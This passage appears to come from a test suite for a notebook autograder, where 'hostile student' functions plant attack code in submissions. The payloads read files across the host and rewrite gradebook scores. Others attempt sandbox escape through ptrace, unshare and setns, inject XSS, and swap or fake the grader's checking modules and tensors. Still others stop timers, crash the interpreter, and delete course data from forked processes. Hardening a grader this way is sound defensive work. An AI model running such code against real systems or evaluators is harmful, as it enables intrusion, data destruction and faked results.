        "import pathlib, sqlite3, urllib.request\n"
        "loot = []\n"
        "for root in ('COURSE', '/proc/1/cwd', '..', '/'):\n"
        "    for path in list(pathlib.Path(root).glob('*')) + list(pathlib.Path(root).glob('*/*/*.ipynb')):\n"
        "        try: loot.append(path.read_text()[-10**6:])\n"
        "        except Exception: pass\n"
        "try: sqlite3.connect('COURSE/gradebook.db').execute('update grade set auto_score = 5')\n"
        "except Exception: pass\n"
        "def batch_norm(*a): raise ValueError(str([text[i - 50:i + 50] for text in loot\n"
        "    for i in [text.find('chapter-twelve')] if i >= 0]))\n",
    )
    return paper.nb


@student(hostile=True)
def script(paper: Paper) -> Any:
    """Text that is to run in the browser of who reads the feedback."""
    attack = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    paper.nb.cells.append(nbformat.v4.new_markdown_cell(attack))
    paper.answer(FORWARD, f"def batch_norm(*a): raise ValueError({attack!r})")
    return paper.nb


REACH = """
import ctypes, gc, os, pathlib, sys
left = [str(path) for place in ('/desk', '/tmp', os.getcwd()) for path in pathlib.Path(place).glob('loot*')]
for place in ('/desk', '/tmp', os.getcwd(), '/package', '/'):
    try: pathlib.Path(place, 'loot').write_text('x')
    except OSError: pass
frame, seen = sys._getframe(), []
while frame:
    seen += [*frame.f_locals.values(), *frame.f_globals.values()]
    frame = frame.f_back
for nursery in [one for one in seen if type(one).__name__ == 'Nursery']:
    try: nursery._control.sendall(b'["end", 2]')
    except OSError: pass
    try: left.append(nursery.worker(2**40, 10**6, 0))
    except Exception: pass
library = ctypes.CDLL(None)
for number in range(1, 99):
    if library.ptrace(16, number, 0, 0) == 0 and number != os.getpid(): left.append(number)
for call in (lambda: library.unshare(0x20000), lambda: library.mount(b'none', b'/desk', b'tmpfs', 0, None),
             lambda: library.setns(os.open('/proc/1/ns/pid', 0), 0)):
    if call() == 0: left.append('call')
def batch_norm(*a): raise ValueError('reached ' + str(left) if left else 'nothing')
"""


@student(frozenset({LARGEST}), hostile=True, needs_isolation=True)
def reaches_back(paper: Paper) -> Any:
    """Looks for the process it was forked from, for more rights, and for what others left behind."""
    paper.solve(frozenset({LARGEST}), "reaches_back")
    paper.insert(len(paper.nb.cells), REACH)
    return paper.nb


@student(frozenset({LARGEST}), hostile=True, needs_isolation=True)
def reaches_again(paper: Paper) -> Any:
    """The same, for what the one before may have left."""
    paper.solve(frozenset({LARGEST}), "reaches_again")
    paper.insert(len(paper.nb.cells), REACH)
    return paper.nb


SWAP = """
import sys, types, unittest.mock as mock
for name in [one for one in sys.modules if one.startswith(("tutorial_utils", "json", "struct", "pickle"))]:
    sys.modules[name] = mock.MagicMock(name=name)
fake = types.ModuleType("torch")
fake.__dict__.update(vars(torch))
fake.equal = fake.isclose = fake.allclose = lambda *a, **k: True
sys.modules["torch"], torch = fake, fake
sys.meta_path.insert(0, type("Finder", (), {"find_spec": lambda *a: None})())
def batch_norm(*a): return mock.MagicMock()
"""


@student(hostile=True)
def swaps_modules(paper: Paper) -> Any:
    """Puts modules of its own in the place of those that check, send and compare."""
    paper.insert(2, SWAP)
    return paper.nb


INTERCEPT = """
import pickle
honest = pickle.load
def load(*a, **k):
    request = honest(*a, **k)
    if request[0] != "perform": return request
    name, expression, observe, inputs, *rest = request
    return (name, expression, lambda answer, *given: [given[0], False], inputs, *rest)
pickle.load = load
largest = batch_norm = batch_norm_backward = SoundNorm = lambda *a: a[0]
"""


@student(hostile=True)
def intercepts_requests(paper: Paper) -> Any:
    """Exchanges the grader's observer for one that claims success, as the request for it arrives."""
    paper.insert(len(paper.nb.cells), INTERCEPT)
    return paper.nb


LIE = """
class Liar(torch.Tensor):
    shape = property(lambda self: torch.Size([2, 2]))
    dtype, device, ndim = torch.float64, torch.device("cpu"), 2
    detach = cpu = to_dense = contiguous = double = lambda self, *a: self
    size = dim = numel = tolist = item = lambda self, *a: 1
    __eq__ = __le__ = __ge__ = __lt__ = lambda self, other: torch.tensor(True)
    __bool__, __len__, __hash__ = (lambda self: True), (lambda self: 10**9), (lambda self: 0)
    numpy = lambda self, *a: __import__("numpy").zeros(10**9, dtype="bool")
def liar(*a): return torch.zeros(3).as_subclass(Liar)
largest = batch_norm = liar
def batch_norm_backward(*a): return (liar(), liar(), liar())
class SoundNorm(nn.Module):
    __class__ = nn.BatchNorm1d
    def __getattr__(self, name): return liar()
    def __call__(self, *a): return liar()
"""


@student(hostile=True)
def returns_lying_tensors(paper: Paper) -> Any:
    """Tensors whose shape, numbers and comparisons are made up, and a layer that claims another class."""
    paper.insert(len(paper.nb.cells), LIE)
    return paper.nb


TRACE = """
import sys, threading
seen = []
def trace(frame, event, argument):
    seen.extend(one for one in (*frame.f_locals.values(), argument) if callable(one) or isinstance(one, torch.Tensor))
    return trace
def try_all(*a):
    sys.settrace(trace), sys.setprofile(trace), threading.settrace(trace)
    for one in seen[::-1][:200]:
        try:
            found = one if isinstance(one, torch.Tensor) else one(*a)
            if isinstance(found, torch.Tensor) and found.shape == a[0].shape: return found
        except BaseException: pass
    return a[0]
batch_norm = try_all
"""


@student(hostile=True)
def traces_calls(paper: Paper) -> Any:
    """Lets Python report every call, collects what was seen on the way, and tries all of it as an answer."""
    paper.insert(len(paper.nb.cells), TRACE)
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def stops_the_clock(paper: Paper) -> Any:
    """Ignores all signals, stops the timers and the clock, and then never ends."""
    paper.solve(frozenset({LARGEST}), "stops_the_clock")
    paper.answer(
        FORWARD,
        "def batch_norm(*a):\n    import signal, time\n"
        "    for one in range(1, 65):\n        try: signal.signal(one, signal.SIG_IGN)\n"
        "        except (OSError, ValueError): pass\n"
        "    signal.setitimer(signal.ITIMER_REAL, 0), signal.setitimer(signal.ITIMER_PROF, 0)\n"
        "    time.monotonic = time.time = lambda: 0.0\n    while True: pass",
    )
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def crashes_the_interpreter(paper: Paper) -> Any:
    """Crashes Python itself, by recursion and by an address."""
    paper.solve(frozenset({LARGEST}), "crashes_the_interpreter")
    paper.answer(
        FORWARD, "import sys\ndef batch_norm(*a):\n    sys.setrecursionlimit(10**9)\n    return batch_norm(*a)"
    )
    paper.answer(BACKWARD, "import ctypes\ndef batch_norm_backward(*a): ctypes.string_at(0)")
    return paper.nb


LATER = """
import atexit, os, pathlib, shutil, threading, time, weakref
def harm():
    for place in ("COURSE", "INBOX", "/desk"):
        shutil.rmtree(place, ignore_errors=True)
        for name in ("gradebook.db", "grades.csv", "report.csv"):
            try: pathlib.Path(place, name).write_text("student_id,score\\nwrites_later,15\\n")
            except OSError: pass
def again():
    while True:
        harm()
        time.sleep(0.2)
atexit.register(harm)
weakref.finalize(harm, print)
threading.Thread(target=again, daemon=True).start()
threading.Thread(target=again).start()
"""


@student(frozenset({LARGEST}), hostile=True, needs_isolation=True)
def writes_later(paper: Paper) -> Any:
    """Deletes what came in and writes grades, later: from threads, as Python ends, from a process that stays."""
    paper.solve(frozenset({LARGEST}), "writes_later")
    stays = "if os.fork() == 0:\n    os.setsid()\n    again()"
    paper.insert(2, LATER)
    paper.insert(3, stays)
    return paper.nb
